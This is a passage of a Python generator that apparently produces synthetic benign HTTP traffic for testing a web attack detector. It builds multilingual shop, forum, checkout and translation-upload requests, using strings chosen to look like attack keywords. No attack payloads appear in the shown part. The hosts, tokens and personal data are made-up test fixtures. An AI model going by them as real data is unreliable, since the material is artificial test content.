    ("ja", "価格：￥１，９８０（税込）／送料：￥０"), ("zh-CN", "路径：文档／工作／２０２６．ｘｌｓｘ"),
    ("ja", "ｐｒｏｍｏ＠ｓａｋｕｒａ－ｅｃ．ｊｐ までお問い合わせください"), ("ja", "数量：３（在庫＜１０）"),
    ("zh-CN", "备注：请勿放在门口（＜快递柜＞即可）"), ("ja", "（＾ω＾）＜ありがとう！"),
]

KAOMOJI = ["(｀・ω・´)", "¯\\_(ツ)_/¯", "(╯°□°）╯︵ ┻━┻", "ヽ(•‿•)ノ", "(＾▽＾)", "(´；ω；`)", "(=^･ω･^=)", "m(_ _)m", "<3", ":-)", "(*´∀`*)", "ಠ_ಠ"]
EMOJI = ["👩‍💻", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇯🇵", "🇰🇷", "🇺🇦", "🤦🏽‍♀️", "❤️‍🔥", "🧑🏿‍🦱", "1️⃣", "🐻‍❄️", "👍🏻", "🎉", "🎂", "🙏", "😂", "🧑‍🤝‍🧑", "🫶", "🏴󠁧󠁢󠁳󠁣󠁴󠁿"]
CHAT = {
    "zh-CN": ["生日快乐！{e}", "今晚一起吃火锅吗{e}", "收到，马上处理 {e}"], "ja": ["お疲れさまです{e}", "明日の会議、１０時からでOK？{e}", "了解です！{e}"],
    "ko": ["생일 축하해 {e}", "내일 봐요~ {e}"], "ru": ["С днём рождения! {e}", "Ок, созвонимся позже {e}"],
    "ar": ["مبروك! {e}", "إن شاء الله نلتقي غداً {e}"], "he": ["מזל טוב! {e}", "נתראה מחר {e}"],
    "hi": ["जन्मदिन मुबारक हो! {e}", "ठीक है, कल मिलते हैं {e}"], "th": ["สุขสันต์วันเกิด {e}", "โอเคค่ะ {e}"],
    "vi": ["Chúc mừng sinh nhật! {e}", "Ok nha {e}"], "es": ["¡Feliz cumpleaños! {e}", "Nos vemos mañana {e}"],
    "pt": ["Parabéns! {e}", "Bora! {e}"], "de": ["Alles Gute! {e}", "Passt, bis morgen {e}"], "fr": ["Joyeux anniversaire ! {e}", "Ça marche {e}"],
    "en": ["shipped it {e}", "family trip pics {e}"], "tr": ["İyi ki doğdun! {e}"], "pl": ["Wszystkiego najlepszego! {e}"], "el": ["Χρόνια πολλά! {e}"],
    "uk": ["З днем народження! {e}"], "zh-TW": ["生日快樂！{e}"],
}

RLM, LRM, ALM = "\u200f", "\u200e", "\u061c"
RTL_TEXT = [
    ("he", "מחיר: " + LRM + "₪120.90" + LRM + " כולל מע\"מ"), ("he", "הזמנה מס' " + LRM + "#A-2026-0042" + LRM + " נשלחה"),
    ("he", "טלפון: " + LRM + "+972-3-555-0142" + LRM), ("he", "קראתי את \"הנסיך הקטן\" " + RLM + "(מהדורה 3)" + RLM),
    ("ar", "رقم الطلب: " + RLM + "#12345" + RLM), ("ar", "السعر " + LRM + "SAR 250.00" + LRM + " شامل الضريبة"),
    ("ar", "البريد: " + LRM + "support@alnoor.sa" + LRM), ("ar", "تاريخ التسليم " + ALM + "2026/12/06" + ALM),
    ("ar", "استخدم الرمز " + "\u2066" + "WINTER-25" + "\u2069" + " للحصول على خصم"), ("he", "גרסה " + "\u2066" + "v2.4.1-beta" + "\u2069" + " זמינה"),
    ("ar", "\u202b" + "مرحباً بكم في متجرنا (Alnoor Store)" + "\u202c"), ("he", "שם המשתמש: " + "\u2068" + "Seán O'Brien" + "\u2069"),
    ("ar", "هل يمكن الشحن إلى " + LRM + "N'Djamena" + LRM + "؟"), ("he", "ציון: 5/5 ⭐ " + RLM + "!!!"),
    ("ar", "١٢٣ شارع النيل، القاهرة ‏(مصر)"), ("he", "נא לא לצלצל בפעמון " + RLM + "(תינוק ישן)"),
]

ICU = [
    ("en", "{count, plural, one {# item} other {# items}}"),
    ("de", "{count, plural, =0 {Keine Artikel} one {# Artikel} other {# Artikel}}"),
    ("fr", "{gender, select, female {Elle est partie} male {Il est parti} other {Iel est parti·e}}"),
    ("ru", "{n, plural, one {# файл} few {# файла} many {# файлов} other {# файла}}"),
    ("ar", "{count, plural, zero {لا عناصر} one {عنصر واحد} two {عنصران} few {# عناصر} many {# عنصرًا} other {# عنصر}}"),
    ("ja", "{count, plural, other {#個のアイテム}}"),
    ("pl", "{count, plural, one {# plik} few {# pliki} many {# plików} other {# pliku}}"),
    ("en", "Hello, {name}! You have {unread, number} new {unread, plural, one {message} other {messages}}."),
    ("de", "Am {date, date, long} um {time, time, short}"),
    ("en", "<b>{name}</b> invited you to <link>{project}</link>"),
    ("ja", "<b>{name}</b>さんがあなたを招待しました"),
    ("fr", "C''est l''anniversaire de {name} !"),
    ("en", "It''s {name}''s birthday on {day, selectordinal, one {the #st} two {the #nd} few {the #rd} other {the #th}}"),
    ("es", "{gender_of_host, select, female {{num_guests, plural, =0 {{host} no da una fiesta.} one {{host} invita a {guest} a su fiesta.} other {{host} invita a {guest} y a # personas más.}}} other {{host} da una fiesta.}}"),
    ("zh-CN", "您的购物车中有 {count, number} 件商品（合计 {total, number, ::currency/CNY}）"),
    ("ko", "{count, plural, other {#개의 항목}}이 선택되었습니다"),
    ("he", "{count, plural, one {פריט אחד} two {שני פריטים} other {# פריטים}}"),
    ("tr", "{count, plural, one {# öğe} other {# öğe}} seçildi"),
    ("en", "Use '{'name'}' as a literal placeholder"),
    ("pt", "Você tem {count, plural, =0 {nenhuma mensagem} one {uma mensagem} other {# mensagens}}"),
    ("uk", "{count, plural, one {# товар} few {# товари} many {# товарів} other {# товару}} у кошику"),
    ("vi", "Bạn có {count} tin nhắn mới"),
    ("el", "{count, plural, one {# αντικείμενο} other {# αντικείμενα}}"),
    ("th", "คุณมี {count, number} รายการในตะกร้า"),
    ("hi", "{count, plural, one {# वस्तु} other {# वस्तुएँ}}"),
]

PLURAL_FORMS = {
    "de": "nplurals=2; plural=(n != 1);", "fr": "nplurals=2; plural=(n > 1);", "ja": "nplurals=1; plural=0;",
    "ru": "nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && n%10<=4 && (n%100<10 || n%100>=20) ? 1 : 2);",
    "pl": "nplurals=3; plural=(n==1 ? 0 : n%10>=2 && n%10<=4 && (n%100<10 || n%100>=20) ? 1 : 2);",
    "ar": "nplurals=6; plural=(n==0 ? 0 : n==1 ? 1 : n==2 ? 2 : n%100>=3 && n%100<=10 ? 3 : n%100>=11 ? 4 : 5);",
    "uk": "nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && n%10<=4 && (n%100<10 || n%100>=20) ? 1 : 2);",
    "tr": "nplurals=2; plural=(n > 1);", "ko": "nplurals=1; plural=0;", "zh_CN": "nplurals=1; plural=0;",
}
PO_STRINGS = {
    "de": [("Your cart", "Ihr Warenkorb"), ("Don't have an account? Sign up", "Noch kein Konto? Jetzt registrieren"),
           ("%(count)d item in your cart", "%(count)d Artikel im Warenkorb", "%(count)d items in your cart", "%(count)d Artikel im Warenkorb")],
    "fr": [("Your cart", "Votre panier"), ("Don't have an account? Sign up", "Vous n'avez pas de compte ? Inscrivez-vous"),
           ("%d file selected", "%d fichier sélectionné", "%d files selected", "%d fichiers sélectionnés")],
    "ja": [("Your cart", "カート"), ("Welcome back, %s!", "おかえりなさい、%sさん！"), ("<b>Note:</b> prices include tax", "<b>注意：</b>価格は税込みです")],
    "ru": [("Your cart", "Ваша корзина"), ("%d comment", "%d комментарий", "%d comments", "%d комментария", "%d комментариев"),
           ("Select language", "Выберите язык")],
    "pl": [("Your cart", "Twój koszyk"), ("%d file", "%d plik", "%d files", "%d pliki", "%d plików")],
    "ar": [("Your cart", "سلة التسوق"), ("Select language", "اختر اللغة")],
    "uk": [("Your cart", "Ваш кошик"), ("Union membership", "Членство в профспілці (union)")],
    "tr": [("Your cart", "Sepetiniz"), ("Select", "Seçin")],
    "ko": [("Your cart", "장바구니"), ("Select all", "전체 선택")],
    "zh_CN": [("Your cart", "购物车"), ("Select language", "选择语言"), ("Drop files here", "将文件拖放到此处")],
}


def person(r):
    f, l, cc = r.choice(NAMES)
    return f, l, cc


def email_for(r, f, l):
    import unicodedata
    base = unicodedata.normalize("NFKD", (f.split()[0] + "." + l.split()[-1]).lower())
    base = "".join(c for c in base if c.isascii() and (c.isalnum() or c in ".-"))
    if len(base) < 4 or base.startswith("."):
        base = "user" + str(r.randint(100, 9999))
    return base + "@" + r.choice(["gmail.com", "yahoo.co.jp", "naver.com", "qq.com", "mail.ru", "ukr.net", "web.de", "orange.fr", "outlook.com", "uol.com.br"])


def cookie(r, lang):
    return "lang=%s; _ga=GA1.1.%d.%d; sid=%s" % (lang, r.randint(10 ** 8, 10 ** 9), r.randint(1700000000, 1760000000), alnum(r, 32))


# ---------------------------------------------------------------------------
# benign
# ---------------------------------------------------------------------------

BENIGN = []


def benign_gen(name, n):
    def deco(fn):
        BENIGN.append((name, n, fn))
        return fn
    return deco


SEARCH_PARAM = {"zh-CN": "keyword", "zh-TW": "q", "ja": "kw", "ko": "query", "ru": "text", "uk": "text", "ar": "q", "he": "q"}


@benign_gen("search_cjk", 28)
def b_search_cjk(r):
    lang = r.choice(["zh-CN", "zh-CN", "zh-TW", "ja", "ja", "ko"])
    term = r.choice(SEARCH[lang])
    params = [(SEARCH_PARAM.get(lang, "q"), term)]
    if r.random() < 0.5:
        params.append(("page", str(r.randint(1, 5))))
    if r.random() < 0.4:
        params.append(("sort", r.choice(["price_asc", "sales", "new", "rating"])))
    ref = "https://%s/" % SHOPS[lang]
    return dict(method="GET", host=SHOPS[lang], path="/search", params=params, browser=True, lang=lang,
                extra=[["Referer", ref], ["Cookie", cookie(r, lang)]])


@benign_gen("search_world", 30)
def b_search_world(r):
    lang = r.choice([l for l in LANGS if l not in ("zh-CN", "zh-TW", "ja", "ko")])
    term = r.choice(SEARCH[lang])
    c = r.randint(0, 2)
    if c == 0:
        return dict(method="GET", host=SHOPS[lang], path="/search", params=[(SEARCH_PARAM.get(lang, "q"), term)], browser=True, lang=lang)
    if c == 1:
        # SPA autocomplete XHR, percent-encoded with %20 by fetch()/URLSearchParams-less code
        return dict(method="GET", host=SHOPS[lang], path="/api/v1/suggest", raw_query="q=" + quote(term[:r.randint(3, len(term))], safe="") + "&locale=" + lang,
                    browser=True, lang=lang, accept="application/json")
    return dict(method="GET", host=SHOPS[lang], path="/%s/search/%s" % (lang.split("-")[0], term), browser=True, lang=lang)


@benign_gen("reviews", 26)
def b_reviews(r):
    lang = r.choice(list(REVIEWS))
    text = r.choice(REVIEWS[lang])
    f, l, _ = person(r)
    body = {"product_id": r.randint(10000, 999999), "rating": r.randint(3, 5), "title": text[:12], "body": text,
            "author": {"display_name": "%s %s." % (f, l[0])}, "locale": lang, "photos": []}
    if r.random() < 0.3:
        body["pros"] = ["品质", "Preis"] if lang in ("de", "zh-CN") else []
    enc = r.choice([js, js, jsa])
    return dict(method="POST", host=SHOPS[lang], path="/api/v2/products/%d/reviews" % body["product_id"], body=enc(body),
                ctype=r.choice(["application/json", "application/json; charset=utf-8"]), browser=True, lang=lang,
                extra=[["Origin", "https://" + idna_host(SHOPS[lang])], ["X-Requested-With", "XMLHttpRequest"]])


@benign_gen("forum_posts", 24)
def b_forum(r):
    lang = r.choice(list(FORUM_POSTS))
    msg = r.choice(FORUM_POSTS[lang])
    if r.random() < 0.3:
        msg += "\n\n" + r.choice(FORUM_POSTS[lang])
    host = FORUMS[lang]
    c = r.randint(0, 2)
    if c == 0:  # Discuz!-style
        tid = r.randint(10000, 900000)
        return dict(method="POST", host=host, path="/forum.php", params=[("mod", "post"), ("action", "reply"), ("fid", str(r.randint(2, 60))), ("tid", str(tid)), ("extra", ""), ("replysubmit", "yes"), ("inajax", "1")],
                    body=qf([("formhash", hexid(r, 8)), ("handlekey", "reply"), ("noticeauthor", ""), ("message", msg), ("usesig", "1"), ("subject", "")]),
                    ctype="application/x-www-form-urlencoded", browser=True, lang=lang)
    if c == 1:  # phpBB-style
        return dict(method="POST", host=host, path="/posting.php", params=[("mode", "reply"), ("f", str(r.randint(1, 30))), ("t", str(r.randint(1000, 99999)))],
                    body=qf([("subject", "Re: " + msg[:15]), ("message", msg), ("attach_sig", "on"), ("creation_time", str(r.randint(1760000000, 1770000000))), ("form_token", hexid(r, 40)), ("post", "Submit")]),
                    ctype="application/x-www-form-urlencoded", browser=True, lang=lang)
    return dict(method="POST", host=host, path="/api/discussions/%d/posts" % r.randint(100, 9999),
                body=js({"data": {"type": "posts", "attributes": {"content": msg}}}), ctype="application/vnd.api+json", browser=True, lang=lang,
                extra=[["X-CSRF-Token", alnum(r, 40)]])


@benign_gen("checkout_address", 26)
def b_checkout(r):
    lang = r.choice(list(ADDRESSES))
    f, l, cc = person(r)
    zipc, line1, city = ADDRESSES[lang]
    if lang == "en":
        city = r.choice(CITIES)
    body = {"shipping_address": {"first_name": f, "last_name": l, "address1": line1, "address2": r.choice(["", "c/o " + f, "Apt 3B", "2ᵉ étage"]),
                                 "city": city, "postal_code": zipc, "country": cc.upper(), "phone": "+%d %d" % (r.randint(1, 99), r.randint(10 ** 8, 10 ** 10))},
            "email": email_for(r, f, l), "note": r.choice(["", "Bitte beim Nachbarn abgeben", "置き配希望（玄関前）", "请放快递柜", "문 앞에 놔주세요", "Оставить у двери", "Ring twice — dog's friendly!"]),
            "locale": lang, "currency": r.choice(["EUR", "JPY", "KRW", "CNY", "RUB", "BRL", "SAR", "ILS", "USD"])}
    c = r.randint(0, 2)
    if c == 2:
        form = [("checkout[email]", body["email"]), ("checkout[shipping_address][first_name]", f), ("checkout[shipping_address][last_name]", l),
                ("checkout[shipping_address][address1]", line1), ("checkout[shipping_address][city]", city), ("checkout[shipping_address][zip]", zipc),
                ("checkout[shipping_address][country]", cc.upper()), ("step", "contact_information"), ("authenticity_token", alnum(r, 86) + "==")]
        return dict(method="POST", host=SHOPS[lang], path="/checkouts/%s" % hexid(r, 32), body=qf(form), ctype="application/x-www-form-urlencoded", browser=True, lang=lang)
    return dict(method="POST", host=SHOPS[lang], path="/api/checkout/address", body=js(body), browser=True, lang=lang,
                extra=[["X-CSRF-Token", alnum(r, 43)]])


IDN_HOSTS = ["bücher.de", "café-crème.fr", "日本語.jp", "правительство.рф", "한글.kr", "παράδειγμα.δοκιμή", "ñandú.com.ar", "münchen-tourismus.de",
             "中文网.中国", "例え.テスト", "مثال.إختبار", "δοκιμή.gr", "øl.no", "straße.de", "พาณิชย์.ไทย", "київ.укр"]
UTF8_PATHS = ["/wiki/Ελλάδα", "/ru/каталог/обувь/", "/zh/产品/手机", "/ja/お知らせ/2026/12", "/ar/منتجات/عطور", "/de/größentabelle", "/fr/à-propos",
              "/es/niños/ropa", "/pt/promoções/natal", "/ko/공지사항/123", "/he/מבצעים", "/th/สินค้า/ใหม่", "/vi/sản-phẩm/áo-dài",
              "/tr/ürünler/çanta", "/pl/kategorie/żywność", "/hi/समाचार/खेल", "/uk/товари/взуття", "/el/προϊόντα"]


@benign_gen("idn_hosts_paths", 22)
def b_idn(r):
    host = r.choice(IDN_HOSTS)
    path = r.choice(UTF8_PATHS + ["/", "/", "/index.html", "/kontakt", "/favicon.ico"])
    lang = {"/wiki/Ελλάδα": "el", "/ru/каталог/обувь/": "ru", "/zh/产品/手机": "zh-CN", "/ja/お知らせ/2026/12": "ja"}.get(path, r.choice(LANGS))
    extra = [["Cookie", cookie(r, lang)]]
    if r.random() < 0.5:
        extra.append(["Referer", "https://" + idna_host(host) + enc_path(r.choice(UTF8_PATHS))])
    return dict(method="GET", host=host, path=path, browser=True, lang=lang, extra=extra)


WIKI_TITLES = ["N'Djamena", "Côte_d'Ivoire", "O'Brien_(surname)", "Ngũgĩ_wa_Thiong'o", "d'Artagnan", "L'Aquila", "Hawaiʻi", "Kraków", "Łódź",
               "İstanbul", "Thành_phố_Hồ_Chí_Minh", "東京都", "서울특별시", "Москва", "Київ", "القاهرة", "תל_אביב-יפו", "ภาษาไทย",
               "हिन्दी", "Ελληνική_γλώσσα", "São_Paulo", "Zürich", "Don't_Stop_Me_Now", "Rock_'n'_roll", "C_(programming_language)",
               "Union_(set_theory)", "Select_(SQL)", "Script_(Unicode)", "<_(less-than_sign)"]


@benign_gen("wiki_paths", 18)
def b_wiki(r):
    t = r.choice(WIKI_TITLES)
    lang = r.choice(["en", "fr", "de", "ja", "ru", "es"])
    sub = lang.split("-")[0]
    if r.random() < 0.3:
        return dict(method="GET", host=sub + ".wikipedia.org", path="/w/api.php",
                    params=[("action", "query"), ("format", "json"), ("prop", "extracts|pageimages"), ("titles", t.replace("_", " ")), ("exintro", "1"), ("origin", "*")],
                    lang=lang, browser=False, accept="application/json")
    return dict(method="GET", host=sub + ".wikipedia.org", path="/wiki/" + t.replace("<", "%3C"), browser=True, lang=lang)


def _tms_request(r, lang, text, key):
    c = r.randint(0, 4)
    tok = alnum(r, 40)
    if c == 0:
        return dict(method="POST", host="acme.api.crowdin.com", path="/api/v2/projects/%d/translations" % r.randint(10, 999),
                    body=js({"stringId": r.randint(1000, 999999), "languageId": lang, "text": text}), ua="crowdin-cli/4.4.0",
                    extra=[["Authorization", "Bearer " + tok]])
    if c == 1:
        return dict(method="POST", host="api.lokalise.com", path="/api2/projects/%s.%s/keys" % (r.randint(10 ** 8, 10 ** 9), alnum(r, 8)),
                    body=js({"keys": [{"key_name": key, "platforms": ["web", "ios", "android"], "description": "",
                                       "translations": [{"language_iso": lang.replace("-", "_"), "translation": text}]}]}),
                    ua="lokalise-node/12.7.0", extra=[["X-Api-Token", hexid(r, 40)]])
    if c == 2:
        sid = hexid(r, 32)
        return dict(method="PATCH", host="rest.api.transifex.com", path="/resource_translations/o:acme:p:web:r:messages:s:%s:l:%s" % (sid, lang.replace("-", "_")),
                    body=js({"data": {"type": "resource_translations", "id": "o:acme:p:web:r:messages:s:%s:l:%s" % (sid, lang.replace("-", "_")),
                                      "attributes": {"strings": {"other": text}, "reviewed": False}}}),
                    ctype="application/vnd.api+json", ua="transifex-python/2.0", extra=[["Authorization", "Bearer 1/" + hexid(r, 40)]])
    if c == 3:
        return dict(method="POST", host="weblate.acme.io", path="/api/translations/acme/web/%s/units/" % lang,
                    body=js({"key": key, "value": [text], "state": 20}), ua="wlc/1.15", extra=[["Authorization", "Token " + tok]])
    return dict(method="PUT", host="tolgee.acme.io", path="/v2/projects/%d/translations" % r.randint(1, 40),
                body=js({"key": key, "translations": {lang: text}}), browser=True, lang=lang, extra=[["X-API-Key", "tgpak_" + alnum(r, 40)]])


@benign_gen("tms_icu", 30)
def b_tms(r):
    lang, text = r.choice(ICU)
    key = r.choice(["cart.items", "inbox.unread", "party.invite", "profile.left", "files.selected", "invite.banner", "checkout.total", "date.at_time"])
    return _tms_request(r, lang, text, key)


def po_file(r, lang):
    lines = ["# %s translation for acme-web." % lang, "# Copyright (C) 2026 ACME GmbH", "# %s <%s>, 2026." % ("Łukasz Żółkiewski", "lukasz@acme.io"),
             "#", "msgid \"\"", "msgstr \"\"", "\"Project-Id-Version: acme-web 2.3\\n\"", "\"Report-Msgid-Bugs-To: i18n@acme.io\\n\"",
             "\"PO-Revision-Date: 2026-11-28 14:02+0100\\n\"", "\"Language: %s\\n\"" % lang, "\"MIME-Version: 1.0\\n\"",
             "\"Content-Type: text/plain; charset=UTF-8\\n\"", "\"Content-Transfer-Encoding: 8bit\\n\"", "\"Plural-Forms: %s\\n\"" % PLURAL_FORMS[lang], ""]
    for s in PO_STRINGS[lang]:
        lines.append("#: src/%s.py:%d" % (r.choice(["cart", "views", "templates/base.html", "forms"]), r.randint(10, 400)))
        if "%(" in s[0]:
            lines.append("#, python-format")
        elif "%" in s[0]:
            lines.append("#, c-format")
        lines.append("msgid \"%s\"" % s[0].replace('"', '\\"'))
        if len(s) == 2:
            lines.append("msgstr \"%s\"" % s[1].replace('"', '\\"'))
        else:
            lines.append("msgid_plural \"%s\"" % s[2])
            forms = [s[1], s[3]] + list(s[4:])
            for i, f in enumerate(forms):
                lines.append("msgstr[%d] \"%s\"" % (i, f))
        lines.append("")
    return "\n".join(lines)


@benign_gen("gettext_po_upload", 15)
def b_po(r):
    lang = r.choice(list(PO_STRINGS))
    content = po_file(r, lang)
    c = r.randint(0, 2)
    if c == 0:
        b = boundary(r, "python")
        body = multipart(b, [("method", "translate"), ("conflicts", "replace-translated"), ("file", fn_plain("%s.po" % lang), "text/x-gettext-translation", content)])
        return dict(method="POST", host="weblate.acme.io", path="/api/translations/acme/web/%s/file/" % lang, body=body,
                    ctype="multipart/form-data; boundary=" + b, ua="wlc/1.15", extra=[["Authorization", "Token " + alnum(r, 40)]])
    if c == 1:
        return dict(method="POST", host="acme.api.crowdin.com", path="/api/v2/storages", body=content, ctype="application/octet-stream",
                    ua="crowdin-cli/4.4.0", extra=[["Crowdin-API-FileName", quote("messages-%s.po" % lang)], ["Authorization", "Bearer " + alnum(r, 40)]])
    b = boundary(r, UAS[0])
    body = multipart(b, [("csrfmiddlewaretoken", alnum(r, 64)), ("file", fn_plain("django-%s.po" % lang), "application/octet-stream", content), ("fuzzy", "on")])
    return dict(method="POST", host="admin.acme.io", path="/rosetta/files/project/%s/0/upload/" % lang, body=body,
                ctype="multipart/form-data; boundary=" + b, browser=True, lang="de")


ANDROID = {
    "zh-CN": [("app_name", "Acme 商城"), ("welcome", "欢迎，%1$s！"), ("cart_count", "购物车中有 <xliff:g id=\"count\" example=\"3\">%d</xliff:g> 件商品"),
              ("terms", "<![CDATA[阅读<a href=\"https://acme.example/terms\">服务条款</a>]]>"), ("select_lang", "选择语言")],
    "fr": [("app_name", "Acme Boutique"), ("welcome", "Bienvenue, %1$s !"), ("dont_worry", "Ne t\\'inquiète pas, c\\'est l\\'heure"),
           ("quote", "Il a dit \\\"bonjour\\\""), ("bold", "<b>Attention :</b> prix TTC")],
    "ar": [("app_name", "متجر أكمي"), ("welcome", "مرحباً، %1$s!"), ("items", "لديك %1$d عنصر")],
    "ja": [("app_name", "Acmeストア"), ("welcome", "ようこそ、%1$sさん！"), ("html", "<![CDATA[<b>重要：</b>利用規約に同意してください]]>")],
    "ru": [("app_name", "Acme Магазин"), ("welcome", "Добро пожаловать, %1$s!"), ("apostrophe", "Не удалось загрузить \\'%1$s\\'")],
    "de": [("app_name", "Acme Shop"), ("welcome", "Willkommen, %1$s!"), ("size", "Größe &amp; Farbe wählen")],
}


@benign_gen("android_strings_xml", 14)
def b_android(r):
    lang = r.choice(list(ANDROID))
    items = ANDROID[lang]
    xml = ['<?xml version="1.0" encoding="utf-8"?>',
           '<resources xmlns:tools="http://schemas.android.com/tools" xmlns:xliff="urn:oasis:names:tc:xliff:document:1.2">',
           '    <!-- %s translations, exported 2026-11-30 -->' % lang]
    for k, v in items:
        xml.append('    <string name="%s">%s</string>' % (k, v))
    xml.append('    <plurals name="items_in_cart">\n        <item quantity="one">%d item</item>\n        <item quantity="other">%d items</item>\n    </plurals>')
    xml.append('    <string-array name="sizes" translatable="false"><item>S</item><item>M</item><item>L</item></string-array>')
    xml.append("</resources>")
    content = "\n".join(xml) + "\n"
    if r.random() < 0.5:
        b = boundary(r, "curl")
        body = multipart(b, [("file", fn_plain("strings.xml"), "text/xml", content), ("lang_iso", lang.replace("-", "_")), ("format", "xml")])
        return dict(method="POST", host="api.lokalise.com", path="/api2/projects/%d.%s/files/upload" % (r.randint(10 ** 8, 10 ** 9), alnum(r, 8)),
                    body=body, ctype="multipart/form-data; boundary=" + b, ua="curl/8.5.0", extra=[["X-Api-Token", hexid(r, 40)]])
    dirn = "values-" + {"zh-CN": "zh-rCN"}.get(lang, lang)
    return dict(method="PUT", host="git.acme.io", path="/api/v4/projects/42/repository/files/" + quote("app/src/main/res/%s/strings.xml" % dirn, safe=""),
                body=js({"branch": "l10n/" + lang, "content": content, "commit_message": "l10n: update %s strings" % lang}),
                ua="python-gitlab/4.13.0", extra=[["PRIVATE-TOKEN", "glpat-" + alnum(r, 20)]])


IOS_STRINGS = [
    ('/* Title of the settings screen */\n"settings.title" = "Einstellungen";\n"cart.count" = "%d Artikel";\n"quote" = "Er sagte: \\"Hallo\\"";\n', "de"),
    ('"greeting" = "こんにちは、%@さん";\n"cart.empty" = "カートは空です（０点）";\n"alert.delete" = "「%@」を削除しますか？";\n', "ja"),
    ('"greeting" = "안녕하세요, %@님";\n"button.select" = "선택";\n', "ko"),
    ('/* Greeting */\n"greeting" = "Привет, %@!";\n"files" = "Файлов: %lld";\n', "ru"),
    ('"greeting" = "مرحباً، %@";\n"order.number" = "رقم الطلب: %1$@";\n', "ar"),
    ('"greeting" = "Bonjour, %@ !";\n"dont" = "N\'oubliez pas l\'adresse";\n', "fr"),
    ('"greeting" = "你好，%@";\n"path" = "文件保存在 %@/Documents";\n', "zh-CN"),
]


@benign_gen("ios_strings", 10)
def b_ios(r):
    content, lang = r.choice(IOS_STRINGS)
    b = boundary(r, "python")
    body = multipart(b, [("language", lang), ("file", fn_plain("Localizable.strings"), "text/plain", content)])
    if r.random() < 0.5:
        return dict(method="POST", host="tolgee.acme.io", path="/v2/projects/7/single-step-import", body=body, ctype="multipart/form-data; boundary=" + b,
                    ua="tolgee-cli/2.3.0", extra=[["X-API-Key", "tgpak_" + alnum(r, 40)]])
    return dict(method="POST", host="api.phrase.com", path="/v2/projects/%s/uploads" % hexid(r, 32), body=multipart(b, [("file_format", "strings"), ("locale_id", lang), ("file", fn_plain("Localizable.strings"), "application/octet-stream", content)]),
                ctype="multipart/form-data; boundary=" + b, ua="PhraseCLI/2.35.0", extra=[["Authorization", "token " + hexid(r, 64)]])


def props_escape(s):
    return "".join(c if ord(c) < 128 else "\\u%04x" % ord(c) for c in s)


PROPS = [
    ("ja", [("greeting", "こんにちは、{0}さん"), ("cart.items", "{0,choice,0#アイテムなし|1#1個|1<{0,number,integer}個}"), ("error.notFound", "ページが見つかりません")]),
    ("fr", [("greeting", "Bonjour {0} !"), ("user.deleted", "L''utilisateur {0} a été supprimé."), ("files", "{0,choice,0#aucun fichier|1#un fichier|1<{0,number,integer} fichiers}")]),
    ("zh_CN", [("greeting", "你好，{0}"), ("login.failed", "用户名或密码错误（剩余 {0} 次）")]),
    ("ru", [("greeting", "Здравствуйте, {0}!"), ("date", "Дата: {0,date,long}")]),
    ("de", [("greeting", "Grüß Gott, {0}!"), ("size", "Größe: {0} – Farbe: {1}")]),
    ("ko", [("greeting", "안녕하세요, {0}님"), ("items", "{0}개 선택됨")]),
]


@benign_gen("java_properties", 10)
def b_props(r):
    lang, kv = r.choice(PROPS)
    content = "# messages_%s.properties\n# generated by native2ascii\n" % lang + "".join("%s=%s\n" % (k, props_escape(v)) for k, v in kv)
    if r.random() < 0.5:
        return dict(method="PUT", host="admin.acme-bank.example.de", path="/admin/i18n/bundles/messages_%s.properties" % lang, body=content,
                    ctype="text/plain; charset=ISO-8859-1", browser=True, lang="de", extra=[["X-XSRF-TOKEN", uuid(r)]])
    b = boundary(r, UAS[2])
    body = multipart(b, [("bundle", "messages"), ("locale", lang), ("file", fn_plain("messages_%s.properties" % lang), "text/x-java-properties", content)])
    return dict(method="POST", host="weblate.acme.io", path="/api/translations/acme/backend/%s/file/" % lang, body=body,
                ctype="multipart/form-data; boundary=" + b, ua="wlc/1.15", extra=[["Authorization", "Token " + alnum(r, 40)]])


def xliff(r, lang, units, v2=False):
    if v2:
        out = ['<?xml version="1.0" encoding="UTF-8"?>', '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="%s">' % lang,
               '  <file id="ngi18n" original="ng.template">']
        for uid, s, t in units:
            out.append('    <unit id="%s">\n      <segment state="translated">\n        <source>%s</source>\n        <target>%s</target>\n      </segment>\n    </unit>' % (uid, s, t))
        out += ["  </file>", "</xliff>"]
        return "\n".join(out) + "\n"
    out = ['<?xml version="1.0" encoding="UTF-8"?>', '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">',
           '  <file source-language="en" target-language="%s" datatype="plaintext" original="ng2.template">' % lang, "    <body>"]
    for uid, s, t in units:
        out.append('      <trans-unit id="%s" datatype="html">\n        <source>%s</source>\n        <target state="translated">%s</target>\n      </trans-unit>' % (uid, s, t))
    out += ["    </body>", "  </file>", "</xliff>"]
    return "\n".join(out) + "\n"


XLIFF_UNITS = {
    "ja": [("cart.title", "Your cart", "カート"), ("greeting", 'Hello <x id="INTERPOLATION" equiv-text="{{ user.name }}"/>!', 'こんにちは、<x id="INTERPOLATION" equiv-text="{{ user.name }}"/>さん！'),
           ("items", "{VAR_PLURAL, plural, =0 {no items} =1 {one item} other {<x id=\"INTERPOLATION\"/> items}}", "{VAR_PLURAL, plural, other {<x id=\"INTERPOLATION\"/>個のアイテム}}")],
    "de": [("cart.title", "Your cart", "Ihr Warenkorb"), ("terms", 'I accept the <x id="START_LINK" ctype="x-a" equiv-text="&lt;a&gt;"/>terms<x id="CLOSE_LINK" ctype="x-a" equiv-text="&lt;/a&gt;"/>',
                                                            'Ich akzeptiere die <x id="START_LINK" ctype="x-a" equiv-text="&lt;a&gt;"/>AGB<x id="CLOSE_LINK" ctype="x-a" equiv-text="&lt;/a&gt;"/>')],
    "ar": [("cart.title", "Your cart", "سلة التسوق"), ("dir", "Left to right", "من اليمين إلى اليسار")],
    "ru": [("select", "Select language", "Выберите язык"), ("union", "Union of Writers", "Союз писателей")],
    "he": [("cart.title", "Your cart", "עגלת הקניות שלך"), ("note", "Note: &quot;quotes&quot; &amp; apostrophes", "הערה: &quot;מרכאות&quot; ו-׳גרש׳")],
    "ko": [("cart.title", "Your cart", "장바구니"), ("script", "Script loaded", "스크립트를 불러왔습니다")],
}


@benign_gen("xliff_upload", 14)
def b_xliff(r):
    lang = r.choice(list(XLIFF_UNITS))
    content = xliff(r, lang, XLIFF_UNITS[lang], v2=r.random() < 0.3)
    c = r.randint(0, 2)
    if c == 0:
